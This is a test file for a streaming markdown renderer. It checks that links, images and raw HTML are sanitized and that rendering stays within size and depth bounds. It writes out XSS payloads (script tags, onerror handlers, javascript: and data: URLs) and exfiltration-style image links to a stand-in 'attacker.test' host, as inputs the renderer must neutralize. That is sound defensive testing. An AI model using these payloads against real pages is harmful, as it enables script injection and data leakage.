// @vitest-environment happy-dom
import { afterEach, describe, expect, it, vi } from 'vitest';
import { createMarkdownRenderer } from '../../widget/view/markdown-renderer';
import type { MarkdownOptions } from '../../widget/view/markdown-renderer';
import { existsSync, readFileSync } from 'node:fs';
import { resolve } from 'node:path';
import { chunkings } from '../helpers/chunk';

const strings = { copy: 'Copy', copied: 'Copied', truncated: 'Cut short.', image: 'Image:' };
const PAGE = 'https://page.test/docs/a';

function setup(options: Partial<MarkdownOptions> = {}) {
  const root = document.createElement('div');
  document.body.appendChild(root);
  const renderer = createMarkdownRenderer(root, {
    imageHosts: ['img.ok.test'],
    baseUrl: PAGE,
    strings,
    ...options,
  });
  return { root, renderer };
}

function render(chunks: readonly string[], options: Partial<MarkdownOptions> = {}): HTMLElement {
  const { root, renderer } = setup(options);
  for (const chunk of chunks) renderer.write(chunk);
  renderer.end();
  return root;
}

const html = (md: string, options: Partial<MarkdownOptions> = {}) => render([md], options).innerHTML;

const FORBIDDEN = ['SCRIPT', 'IFRAME', 'OBJECT', 'EMBED', 'STYLE', 'FORM', 'BASE', 'META', 'SVG', 'MATH', 'LINK'];

/** The "No XSS" DOM invariants of reliability.md section A, checked on every element under root. */
function unsafeFindings(root: Element): string[] {
  const found: string[] = [];
  for (const el of Array.from(root.querySelectorAll('*'))) {
    if (FORBIDDEN.includes(el.tagName.toUpperCase())) found.push(`<${el.tagName}>`);
    if (el.namespaceURI !== 'http://www.w3.org/1999/xhtml') found.push(`namespace ${el.namespaceURI}`);
    for (const attr of Array.from(el.attributes)) {
      const name = attr.name.toLowerCase();
      if (name.startsWith('on')) found.push(`${el.tagName}[${name}]`);
      if (name === 'style') found.push(`${el.tagName}[style]`);
      if ((name === 'href' || name === 'src') && /^\s*(javascript|vbscript|data):/i.test(attr.value)) {
        found.push(`${el.tagName}[${name}=${attr.value}]`);
      }
    }
  }
  return found;
}

/** Deepest element nesting under root, walked iteratively (a recursive walk could itself overflow). */
function depth(root: Element): number {
  let max = 0;
  const todo: [Element, number][] = [[root, 0]];
  while (todo.length) {
    const [el, d] = todo.pop() as [Element, number];
    max = Math.max(max, d);
    for (const child of Array.from(el.children)) todo.push([child, d + 1]);
  }
  return max;
}

afterEach(() => {
  document.body.textContent = '';
  vi.useRealTimers();
  vi.restoreAllMocks();
});

/** Inputs covering every construct the parser knows, plus the hostile shapes below. */
const CORPUS: Record<string, string> = {
  'heading + inline styles': '# Title *em*\n\nSome **bold**, _it_, __strong__, ~~gone~~ and `code`.\n',
  'all heading levels': '# 1\n## 2\n### 3\n#### 4\n##### 5\n###### 6\n',
  'links': '[ok](https://ok.test/x "title") [rel](/y) [mail](mailto:a@ok.test) [bad](javascript:alert(1))',
  'raw url': 'see https://ok.test/path?q=1 and more',
  'images': '![ok](https://img.ok.test/a.png) ![no](https://attacker.test/p.png?q=SECRET) ![](https://other.test/x.png)',
  'image in link': '[![i](https://img.ok.test/i.png)](https://b.test) [![j](https://bad.test/j.png)](https://b.test)',
  'reference image': '![a][r]\n\n[r]: https://attacker.test/?d=1\n',
  'code fence': '```TypeScript\nconst a = 1;\n  indented();\n```\n\nafter',
  'unterminated fence': '```js\nlet x = `tick`;\n',
  'indented code': '    code line 1\n    code line 2\n\ntext',
  'lists': '3. three\n4. four\n\n- a\n  - nested\n- b\n\n* [x] done\n* [ ] todo\n',
  'table': '| a | b |\n|---|:-:|\n| 1 | 2 |\n| 3 | 4 |\n',
  'blockquote + rule + br': '> quote\n> > deeper\n\n---\n\nline<br>break<br/>again\nsoft',
  'equations': 'inline $x^2$ and block $$\nE = mc^2\n$$\nand \\(a\\)',
  'raw html': '<script>alert(1)</script><img src=x onerror=alert(1)><iframe src="javascript:alert(1)"></iframe>',
  'escapes': '\\*not em\\* \\[not link\\] 1\\. x',
  'unicode': 'emoji 😀👍🏽 done, 日本語 and é',
  'unterminated link': 'click [here](https://ok.test/unfinished',
};

describe('chunking invariance', () => {
  for (const [name, md] of Object.entries(CORPUS)) {
    it(`${name}: every chunking gives the same DOM`, () => {
      const [whole, ...others] = chunkings(md, 7);
      const expected = render(whole!.chunks).innerHTML;
      expect(expected).not.toBe('');
      for (const chunking of others) {
        expect(render(chunking.chunks).innerHTML, chunking.name).toBe(expected);
      }
      // Also cut inside surrogate pairs, which a TextDecoder never does but a caller might.
      expect(render(md.split('')).innerHTML).toBe(expected);
    });
  }
});

describe('elements', () => {
  it('renders headings, paragraphs and inline styles', () => {
    expect(html(CORPUS['heading + inline styles']!)).toBe(
      '<h1>Title <em>em</em></h1><p>Some <strong>bold</strong>, <em>it</em>, <strong>strong</strong>, ' +
        '<s>gone</s> and <code>code</code>.</p>',
    );
    expect(html(CORPUS['all heading levels']!)).toBe(
      '<h1>1</h1><h2>2</h2><h3>3</h3><h4>4</h4><h5>5</h5><h6>6</h6>',
    );
  });

  it('renders lists with a validated start, nesting and disabled checkboxes', () => {
    expect(html(CORPUS.lists!)).toBe(
      '<ol start="3"><li>three</li><li>four</li></ol>' +
        // Any bullet character continues a list, also after a blank line (a chosen simplification).
        '<ul><li>a<ul><li>nested</li></ul></li><li>b</li>' +
        '<li><input type="checkbox" disabled="" checked=""> done</li>' +
        '<li><input type="checkbox" disabled=""> todo</li></ul>',
    );
  });

  it('renders tables with a header row', () => {
    expect(html(CORPUS.table!)).toBe(
      '<table><thead><tr><th> a </th><th> b </th></tr></thead>' +
        '<tbody><tr><td> 1 </td><td> 2 </td></tr><tr><td> 3 </td><td> 4 </td></tr></tbody></table>',
    );
  });

  it('renders blockquotes, rules and line breaks', () => {
    expect(html(CORPUS['blockquote + rule + br']!)).toBe(
      // Raw HTML (`<br>`) stays text; a newline inside a paragraph is a line break.
      '<blockquote><p>quote</p><blockquote><p>deeper</p></blockquote></blockquote><hr>' +
        '<p>line&lt;br&gt;break&lt;br/&gt;again<br>soft</p>',
    );
  });

  it('leaves math as plain text (not supported)', () => {
    expect(html('inline $x^2$ here')).toBe('<p>inline $x^2$ here</p>');
    expect(html('$$\nE = mc^2\n$$')).toBe('<p>$$<br>E = mc^2<br>$$</p>');
  });

  it('renders a code fence with a sanitized data-lang and a copy button', () => {
    expect(html('```TypeScript\nconst a = 1;\n```\n')).toBe(
      '<pre><code data-lang="typescript">const a = 1;</code>' +
        '<button type="button" part="copy" aria-label="Copy">Copy</button></pre>',
    );
    const root = render(['```"><img src=x onerror=alert(1)>\ncode\n```\n']);
    expect(root.querySelector('code')?.getAttribute('data-lang')).toBe('img');
    expect(root.querySelector('img')).toBeNull();
    expect(html('```\nplain\n```\n')).toBe(
      '<pre><code>plain</code><button type="button" part="copy" aria-label="Copy">Copy</button></pre>',
    );
  });

  it('reads indented code as a paragraph (only fenced code is supported)', () => {
    expect(html(CORPUS['indented code']!)).toBe('<p>code line 1<br>code line 2</p><p>text</p>');
  });

  it('ignores a start that is not a plain integer', () => {
    expect(html('1. a\n2. b')).toBe('<ol><li>a</li><li>b</li></ol>');
    expect(html('1234567890. a')).not.toContain('start=');
  });
});

describe('links', () => {
  it('links only safe URLs, in a new tab without opener or referrer', () => {
    expect(html(CORPUS.links!)).toBe(
      '<p><a href="https://ok.test/x" target="_blank" rel="noopener noreferrer">ok</a> ' +
        '<a href="https://page.test/y" target="_blank" rel="noopener noreferrer">rel</a> ' +
        '<a href="mailto:a@ok.test" target="_blank" rel="noopener noreferrer">mail</a> ' +
        '<span>bad</span></p>',
    );
  });

  it.each([
    ['[x](javascript:alert(1))'],
    ['[x](JaVaScRiPt:alert(1))'],
    ['[x](vbscript:msgbox(1))'],
    ['[x](data:text/html,<script>alert(1)</script>)'],
    ['[x](file:///etc/passwd)'],
    ['[x](tel:+1555)'],
    ['[x](blob:https://page.test/uuid)'],
  ])('%j renders as plain text', (md) => {
    const root = render([md]);
    expect(root.querySelector('a')).toBeNull();
    expect(root.querySelector('[href]')).toBeNull();
    expect(root.querySelector('span')?.textContent).toBe('x');
  });

  it('does not link a destination broken by white space (not a link, as in CommonMark)', () => {
    const root = render(['[x](java\tscript:alert(1))']);
    expect(root.querySelector('a, span, [href]')).toBeNull();
    expect(root.textContent).toBe('[x](java\tscript:alert(1))');
  });

  it('keeps balanced parentheses in a destination and drops the title', () => {
    expect(html('[w](https://en.wikipedia.org/wiki/Foo_(bar) "Foo") end')).toBe(
      '<p><a href="https://en.wikipedia.org/wiki/Foo_(bar)" target="_blank" rel="noopener noreferrer">w</a> end</p>',
    );
  });

  it('links raw URLs', () => {
    expect(html(CORPUS['raw url']!)).toBe(
      '<p>see <a href="https://ok.test/path?q=1" target="_blank" rel="noopener noreferrer">' +
        'https://ok.test/path?q=1</a> and more</p>',
    );
  });

  it('keeps a link whose URL never arrives as literal text, unlinked', () => {
    expect(html(CORPUS['unterminated link']!)).toBe('<p>click [here](https://ok.test/unfinished</p>');
  });

  it('refuses relative links when there is no base URL', () => {
    expect(html('[rel](/y)', { baseUrl: undefined })).toBe('<p><span>rel</span></p>');
  });
});

describe('images', () => {
  it('loads an allow-listed image with no referrer, lazily', () => {
    const root = render(['![ok](https://img.ok.test/a.png "title")']);
    const img = root.querySelector('img');
    expect(img?.outerHTML).toBe(
      '<img alt="ok" referrerpolicy="no-referrer" loading="lazy" decoding="async" src="https://img.ok.test/a.png">',
    );
  });

  it('renders any other image as a link naming the host, with zero requests', () => {
    expect(html('![x](https://attacker.test/p.png?q=SECRET)')).toBe(
      '<p><a href="https://attacker.test/p.png?q=SECRET" target="_blank" rel="noopener noreferrer">' +
        'x (attacker.test)</a></p>',
    );
    expect(html('![](https://attacker.test/p.png)')).toBe(
      '<p><a href="https://attacker.test/p.png" target="_blank" rel="noopener noreferrer">' +
        'Image: attacker.test</a></p>',
    );
  });

  it('never creates an img or a src for a blocked image, at any point of the stream', () => {
    const { root, renderer } = setup();
    for (const char of '![x](https://attacker.test/p.png?q=SECRET) and ![y](https://img.ok.test.evil.test/i.png)') {
      renderer.write(char);
      expect(root.querySelector('img, [src]')).toBeNull();
    }
    renderer.end();
    expect(root.querySelector('img, [src]')).toBeNull();
    expect(root.querySelectorAll('a').length).toBe(2);
  });

  it('creates an allowed img only once its full URL has arrived', () => {
    const { root, renderer } = setup();
    const md = '![ok](https://img.ok.test/a.png)';
    for (const char of md.slice(0, -1)) {
      renderer.write(char);
      expect(root.querySelector('img, [src]')).toBeNull();
    }
    renderer.write(')');
    expect(root.querySelector('img')?.getAttribute('src')).toBe('https://img.ok.test/a.png');
  });

  it('blocks unsafe image URLs without making them links', () => {
    for (const [md, text] of [
      ['![s](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)', 's'],
      ['![j](javascript:alert%281%29)', 'j'],
      ['![](vbscript:x)', 'Image:'],
    ]) {
      const root = render([md!]);
      expect(root.querySelector('img, a, [src], [href]')).toBeNull();
      expect(root.textContent).toBe(text);
    }
  });

  it('does not nest a fallback link inside a link', () => {
    const root = render([CORPUS['image in link']!]);
    expect(root.querySelectorAll('img').length).toBe(1);
    expect(root.querySelector('a a')).toBeNull();
    expect(root.querySelectorAll('a').length).toBe(2);
    expect(root.textContent).toContain('j (bad.test)');
  });

  it('leaves reference-style images as text: no img, no src (EchoLeak shape)', () => {
    const root = render([CORPUS['reference image']!]);
    expect(root.querySelector('img, [src]')).toBeNull();
    // No reference definitions: the definition line stays plain text, not even an autolink.
    expect(root.querySelector('a, [href]')).toBeNull();
    expect(root.innerHTML).toBe('<p>![a][r]</p><p>[r]: https://attacker.test/?d=1</p>');
  });
});

describe('XSS', () => {
  const table: [string, string][] = [
    ['<script>alert(1)</script>', '<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>'],
    ['<img src=x onerror=alert(1)>', '<p>&lt;img src=x onerror=alert(1)&gt;</p>'],
    ['<a href="javascript:alert(1)">x</a>', '<p>&lt;a href="javascript:alert(1)"&gt;x&lt;/a&gt;</p>'],
    ['[x](javascript:alert(1))', '<p><span>x</span></p>'],
    ['<svg onload=alert(1)>', '<p>&lt;svg onload=alert(1)&gt;</p>'],
    ['<style>p{display:none}</style>', '<p>&lt;style&gt;p{display:none}&lt;/style&gt;</p>'],
  ];
  it.each(table)('%j renders as %j', (md, expected) => {
    for (const chunking of chunkings(md, 3)) {
      expect(render(chunking.chunks).innerHTML, chunking.name).toBe(expected);
    }
  });

  // The 223 vectors of DOMPurify's expect.mjs (/work/shared/data/xss/README.md). They live outside
  // the repository, so the test is skipped (visibly) where they are absent; imported by a computed path so
  // the type checker needs no declarations for the .mjs.
  const corpus = resolve(process.cwd(), '../shared/data/xss/dompurify-expect.mjs');
  it.skipIf(!existsSync(corpus))('keeps every DOMPurify payload inert, whole and one character at a time', async () => {
    // Vite's module runner will not load files outside the project root: import the module source.
    const source = readFileSync(corpus, 'utf8');
    const specifier = `data:text/javascript;base64,${Buffer.from(source).toString('base64')}`;
    const mod = (await import(/* @vite-ignore */ specifier)) as { default: { payload: string }[] };
    const payloads = mod.default.map((c) => c.payload);
    expect(payloads.length).toBe(223);
    const whole = setup({ maxChars: Infinity });
    const byChar = setup({ maxChars: Infinity });
    for (const payload of payloads) {
      whole.renderer.write(`${payload}\n\n`);
      for (const char of `${payload}\n\n`) byChar.renderer.write(char);
    }
    whole.renderer.end();
    byChar.renderer.end();
    expect(unsafeFindings(whole.root)).toEqual([]);
    expect(unsafeFindings(byChar.root)).toEqual([]);
    expect(byChar.root.innerHTML).toBe(whole.root.innerHTML);
    // Not vacuous: the payloads' markup really is there, as text.
    expect(whole.root.textContent).toContain('<script>');
    expect(whole.root.textContent).toContain('onerror=');
  });

  it('the invariant checker itself flags unsafe DOM', () => {
    const root = document.createElement('div');
    const bad = root.appendChild(document.createElement('a'));
    bad.setAttribute('href', ' JavaScript:alert(1)');
    bad.setAttribute('onclick', 'x');
    bad.setAttribute('style', 'x');
    root.appendChild(document.createElement('iframe'));
    expect(unsafeFindings(root)).toEqual([
      'A[href= JavaScript:alert(1)]',
      'A[onclick]',
      'A[style]',
      '<IFRAME>',
    ]);
  });
});

describe('copy button', () => {
  function stubClipboard(writeText: unknown) {
    Object.defineProperty(window.navigator, 'clipboard', { value: { writeText }, configurable: true });
  }

  it('copies the code text, shows "Copied" for 1.5 s, then restores', async () => {
    vi.useFakeTimers();
    const writeText = vi.fn(() => Promise.resolve());
    stubClipboard(writeText);
    const root = render(['```js\nconst a = 1;\nconst b = 2;\n```\n']);
    const button = root.querySelector('button[part="copy"]') as HTMLButtonElement;
    button.click();
    expect(writeText).toHaveBeenCalledWith('const a = 1;\nconst b = 2;');
    await vi.advanceTimersByTimeAsync(0);
    expect(button.textContent).toBe('Copied');
    expect(button.getAttribute('aria-label')).toBe('Copied');
    await vi.advanceTimersByTimeAsync(1499);
    expect(button.textContent).toBe('Copied');
    await vi.advanceTimersByTimeAsync(1);
    expect(button.textContent).toBe('Copy');
    expect(button.getAttribute('aria-label')).toBe('Copy');
  });

  it('keeps using the timers it captured when a host wraps setTimeout later (E4)', async () => {
    vi.useFakeTimers();
    stubClipboard(() => Promise.resolve());
    const root = render(['```\nx\n```\n']);
    // The host now replaces the timers with stubs that throw (a broken zone.js-style wrapper).
    // Plain assignment, not vi.spyOn: restoring a spy over fake timers breaks useRealTimers().
    const fakes = { set: window.setTimeout, clear: window.clearTimeout };
    const wrapped = vi.fn(() => {
      throw new Error('wrapped');
    });
    window.setTimeout = wrapped as never;
    window.clearTimeout = wrapped as never;
    try {
      const button = root.querySelector('button[part="copy"]') as HTMLButtonElement;
      button.click();
      await vi.advanceTimersByTimeAsync(0);
      expect(button.textContent).toBe('Copied');
      await vi.advanceTimersByTimeAsync(1500);
      expect(button.textContent).toBe('Copy');
      expect(wrapped).not.toHaveBeenCalled();
    } finally {
      window.setTimeout = fakes.set;
      window.clearTimeout = fakes.clear;
    }
  });

  it('listens once on the root, not once per code block; each button copies and resets its own block', async () => {
    vi.useFakeTimers();
    const writeText = vi.fn(() => Promise.resolve());
    stubClipboard(writeText);
    const add = vi.spyOn(HTMLElement.prototype, 'addEventListener');
    const root = render(['```\none\n```\n\ntext\n\n```\ntwo\n```\n\n```\nthree\n```\n']);
    expect(add).toHaveBeenCalledTimes(1);
    expect(add.mock.contexts[0]).toBe(root);
    const [first, second] = Array.from(root.querySelectorAll('button[part="copy"]')) as HTMLButtonElement[];
    root.querySelector('p')!.click();
    expect(writeText).not.toHaveBeenCalled();
    first!.click();
    await vi.advanceTimersByTimeAsync(1000);
    second!.click();
    await vi.advanceTimersByTimeAsync(0);
    expect(writeText.mock.calls).toEqual([['one'], ['two']]);
    expect([first!.textContent, second!.textContent]).toEqual(['Copied', 'Copied']);
    await vi.advanceTimersByTimeAsync(500);
    expect([first!.textContent, second!.textContent]).toEqual(['Copy', 'Copied']);
    await vi.advanceTimersByTimeAsync(1000);
    expect(second!.textContent).toBe('Copy');
  });

  it('swallows a rejected, throwing or missing clipboard', async () => {
    const unhandled = vi.fn();
    process.on('unhandledRejection', unhandled);
    try {
      const root = render(['```\nx\n```\n']);
      const button = root.querySelector('button[part="copy"]') as HTMLButtonElement;

      const rejecting = vi.fn(() => Promise.reject(new Error('denied')));
      stubClipboard(rejecting);
      button.click();
      expect(rejecting).toHaveBeenCalledOnce();

      stubClipboard(() => {
        throw new Error('sync');
      });
      expect(() => button.click()).not.toThrow();

      stubClipboard(undefined);
      expect(() => button.click()).not.toThrow();
      Object.defineProperty(window.navigator, 'clipboard', { value: undefined, configurable: true });
      expect(() => button.click()).not.toThrow();

      await new Promise((resolve) => setTimeout(resolve, 10));
      expect(unhandled).not.toHaveBeenCalled();
      expect(button.textContent).toBe('Copy');
    } finally {
      process.off('unhandledRejection', unhandled);
    }
  });
});

describe('bounds', () => {
  it('cuts at maxChars with one notice, the same for every chunking', () => {
    const md = 'abcdefghij'.repeat(5);
    const expected = '<p>abcdefghijabcde</p><p data-truncated="">Cut short.</p>';
    for (const chunking of chunkings(md, 5)) {
      const { root, renderer } = setup({ maxChars: 15 });
      for (const chunk of chunking.chunks) renderer.write(chunk);
      renderer.write('more');
      renderer.end();
      renderer.end();
      expect(root.innerHTML, chunking.name).toBe(expected);
    }
  });

  it('does not cut at exactly maxChars', () => {
    expect(html('12345', { maxChars: 5 })).toBe('<p>12345</p>');
  });

  it('ignores writes after end', () => {
    const { root, renderer } = setup();
    renderer.write('one');
    renderer.end();
    renderer.write(' two');
    renderer.end();
    expect(root.innerHTML).toBe('<p>one</p>');
  });

  it.each([
    ['>', '>'.repeat(10_000) + ' deep\n' + '>'.repeat(10_000) + ' again'],
    ['> ', '> '.repeat(10_000) + 'deep'],
    ['[', '['.repeat(10_000) + 'x'],
    ['![', '!['.repeat(10_000) + 'x'],
    ['nested lists', Array.from({ length: 300 }, (_, i) => `${' '.repeat(i * 2)}- item ${i}`).join('\n')],
    ['emphasis', '*_'.repeat(5_000) + 'x'],
  ])('10,000 levels of %j do not throw and nest at most 40 elements deep', (_, md) => {
    let root!: HTMLElement;
    expect(() => {
      root = render([md]);
    }).not.toThrow();
    expect(root.childNodes.length).toBeGreaterThan(0);
    expect(depth(root)).toBeLessThanOrEqual(40);
    expect(unsafeFindings(root)).toEqual([]);
  });

  it('deep nesting really is capped: 16 block levels, the rest is text', () => {
    const root = render(['>'.repeat(10_000) + ' deep']);
    expect(root.querySelectorAll('blockquote').length).toBe(16);
    expect(depth(root)).toBe(17); // 16 blockquotes and the paragraph
    expect(root.querySelector('p')?.textContent).toBe('>'.repeat(10_000 - 16) + ' deep');
  });

  it('appends a long line to few text nodes (appendData, not re-set strings)', () => {
    const appendData = vi.spyOn(Text.prototype, 'appendData');
    const { root, renderer } = setup();
    const line = 'word '.repeat(40_000); // 200k chars, one line
    for (let i = 0; i < line.length; i += 100) renderer.write(line.slice(i, i + 100));
    renderer.end();
    const p = root.querySelector('p')!;
    expect(p.textContent).toBe(line.trimEnd() + ' '.repeat(line.length - line.trimEnd().length));
    expect(appendData.mock.calls.length).toBeGreaterThan(1000);
    // Text nodes are capped at 8 KiB each so every append copies little: linear, not quadratic.
    expect(p.childNodes.length).toBeLessThanOrEqual(Math.ceil(line.length / 8192) + 1);
    for (const node of Array.from(p.childNodes)) expect((node as Text).length).toBeLessThanOrEqual(8192 + 100);
    expect(root.querySelector('[data-truncated]')).toBeNull();
  });

  it('renders a 2 MB code fence streamed in chunks', () => {
    const body = ('x'.repeat(79) + '\n').repeat(25_000); // 2,000,000 chars
    const { root, renderer } = setup({ maxChars: 3_000_000 });
    const md = '```txt\n' + body + '```\n';
    for (let i = 0; i < md.length; i += 997) renderer.write(md.slice(i, i + 997));
    renderer.end();
    const code = root.querySelector('pre code')!;
    expect(code.textContent).toBe(body.slice(0, -1));
    expect(code.childNodes.length).toBeLessThanOrEqual(Math.ceil(body.length / 8192) + 2);
  });

  it('cuts a 2 MB code fence at the default 200k cap', () => {
    const md = '```\n' + ('y'.repeat(99) + '\n').repeat(20_000) + '```\n';
    const root = render([md]);
    expect(root.querySelector('pre code')!.textContent!.length).toBeLessThan(200_000);
    expect(root.querySelectorAll('[data-truncated]').length).toBe(1);
  });

  // Inputs that were quadratic in streaming-markdown (and were cut with a notice): the parser's
  // held-back text is capped at 4 KiB, so they render whole. Linearity itself is checked without
  // timing in test/core/markdown-parser.test.ts.
  it.each([
    ['link URL', '[x](' + 'a'.repeat(50_000) + ')', '[x](' + 'a'.repeat(50_000) + ')'],
    ['image URL', '![x](https://img.ok.test/' + 'a'.repeat(50_000) + ')', '![x](https://img.ok.test/' + 'a'.repeat(50_000) + ')'],
    ['backticks', 'a ' + '`'.repeat(50_000), 'a ' + '`'.repeat(50_000)],
    ['fence info', '```' + 'a'.repeat(50_000) + '\ncode', 'code'],
    ['digits', '1' + '2'.repeat(50_000), '1' + '2'.repeat(50_000)],
    ['spaces after a fence newline', '```\nx\n' + ' '.repeat(50_000), 'x'],
  ])('renders a long %s as text, with no notice and no image', (_, md, text) => {
    const root = render([md]);
    expect(root.querySelector('[data-truncated]')).toBeNull();
    expect(root.querySelector('img, [src], a')).toBeNull();
    expect(root.querySelector('p, pre code')?.textContent).toBe(text);
  });

  it('renders a dash line as a rule up to the 4 KiB hold, as text past it', () => {
    expect(html('-'.repeat(4000))).toBe('<hr>');
    expect(html('-'.repeat(50_000))).toBe('<p>' + '-'.repeat(50_000) + '</p>');
  });

  it('keeps ordinary long URLs', () => {
    const url = 'https://ok.test/' + 'a'.repeat(4000);
    const root = render([`[x](${url})`]);
    expect(root.querySelector('a')?.getAttribute('href')).toBe(url);
    expect(root.querySelector('[data-truncated]')).toBeNull();
  });
});
